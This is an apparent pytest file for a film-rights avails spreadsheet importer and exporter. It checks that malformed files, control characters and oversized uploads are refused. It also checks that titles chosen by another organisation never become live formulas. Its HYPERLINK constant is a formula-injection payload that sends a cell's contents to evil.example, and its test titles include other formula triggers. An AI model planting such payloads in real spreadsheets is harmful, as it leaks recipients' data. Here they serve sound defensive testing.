"""Avails spreadsheets as hostile input and output: a file that is no workbook is a 422, not a 500;
a title another organisation chose never arrives as a live formula; control characters and files
past the limits are refused naming what is wrong."""

import io
import zipfile

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import override_settings
from openpyxl import load_workbook

from kinomost.catalog.services import WorkInput, save_work
from kinomost.core.errors import ImportRejected
from kinomost.rights.avails.from_ledger import export_avails
from kinomost.rights.avails.xlsx import read_xlsx
from tests.factories import give, hold
from tests.rights.test_avails_ledger import movie, xlsx

HYPERLINK = '=HYPERLINK("http://evil.example/?"&B5,"Click")'


@pytest.mark.parametrize("body", [b"this is not a workbook", b"PK\x03\x04 a broken zip", b""])
def test_a_file_named_xlsx_that_is_no_workbook_is_a_422_over_the_api(client_a, token_a, body):
    upload = SimpleUploadedFile("avails.xlsx", body)
    r = client_a.post("/api/v1/rights/avails/import", {"file": upload}, HTTP_AUTHORIZATION=f"Bearer {token_a}")
    assert r.status_code == 422, r.content
    assert r.json()["error"] == "import_rejected" and "not an XLSX workbook" in r.json()["message"]


def test_the_studio_page_reports_a_file_that_is_no_workbook(client_a):
    r = client_a.post("/studio/rights/avails/", {"file": SimpleUploadedFile("avails.xlsx", b"not a workbook")})
    assert r.status_code == 200 and b"avails-report" in r.content and b"not an XLSX workbook" in r.content


def test_a_title_chosen_by_the_licensor_is_a_string_cell_in_the_licensees_export(org_a, org_b, actor_b):
    film = save_work(org_a, WorkInput(ref="evil", kind="feature", titles={"en": HYPERLINK}, original_title=HYPERLINK))[0]
    hold(org_a, [film], territories="WORLD", media="svod", start="2026-01-01")
    give(org_a, org_b, [film], territories="CN", media="svod")
    data = export_avails(actor_b, "xlsx", licensor=org_a).data
    cells = [c for row in load_workbook(io.BytesIO(data))["Movies"].iter_rows(min_row=4) for c in row if c.value == HYPERLINK]
    assert cells and {c.data_type for c in cells} == {"s"}
    assert [r.title_alias for r in read_xlsx(io.BytesIO(data)).rows] == [HYPERLINK]


@pytest.mark.parametrize("title", [HYPERLINK, "+7 495 123-45-67", "-1", "@SUM(1)"])
def test_hostile_titles_round_trip_through_the_avails_spreadsheet(title):
    row = movie("FILM", title_display=title)
    assert read_xlsx(io.BytesIO(xlsx([row]))).rows[0].title_display == title


def _replaced(data: bytes, old: bytes, new: bytes) -> bytes:
    """The workbook with `old` replaced in its sheets' XML (openpyxl itself refuses to write a
    control character; a hand-made file carries one all the same)."""
    source, out = zipfile.ZipFile(io.BytesIO(data)), io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            body = source.read(info.filename)
            target.writestr(info.filename, body.replace(old, new) if "worksheets/" in info.filename else body)
    return out.getvalue()


def test_a_control_character_in_a_cell_is_refused_naming_row_and_column():
    data = _replaced(xlsx([movie("FILM"), movie("BAD", title_display="Bad-ESC-title")]), b"-ESC-", b"\x1b")
    with pytest.raises(ImportRejected) as refused:
        read_xlsx(io.BytesIO(data))
    assert [(p["row"], p["column"]) for p in refused.value.problems] == [(5, "TitleDisplayUnlimited")]
    assert "U+001B" in refused.value.problems[0]["message"]


def test_an_avails_file_past_the_row_limit_is_refused_naming_the_limit():
    data = xlsx([movie(f"FILM-{n}") for n in range(4)])
    with override_settings(IMPORT_MAX_ROWS=3), pytest.raises(ImportRejected) as refused:
        read_xlsx(io.BytesIO(data))
    assert refused.value.problems[0]["limit"] == "KINOMOST_IMPORT_MAX_ROWS"
    with override_settings(IMPORT_MAX_ROWS=4):
        assert len(read_xlsx(io.BytesIO(data)).rows) == 4


def test_an_upload_past_the_byte_limit_is_a_422_naming_the_limit(client_a, token_a):
    upload = SimpleUploadedFile("avails.xlsx", xlsx([movie("FILM")]))
    with override_settings(IMPORT_MAX_BYTES=1000):
        r = client_a.post("/api/v1/rights/avails/import", {"file": upload}, HTTP_AUTHORIZATION=f"Bearer {token_a}")
        page = client_a.post("/studio/rights/avails/", {"file": SimpleUploadedFile("avails.xlsx", xlsx([movie("FILM")]))})
    assert r.status_code == 422 and r.json()["details"][0]["limit"] == "KINOMOST_IMPORT_MAX_BYTES"
    assert b"KINOMOST_IMPORT_MAX_BYTES" in page.content
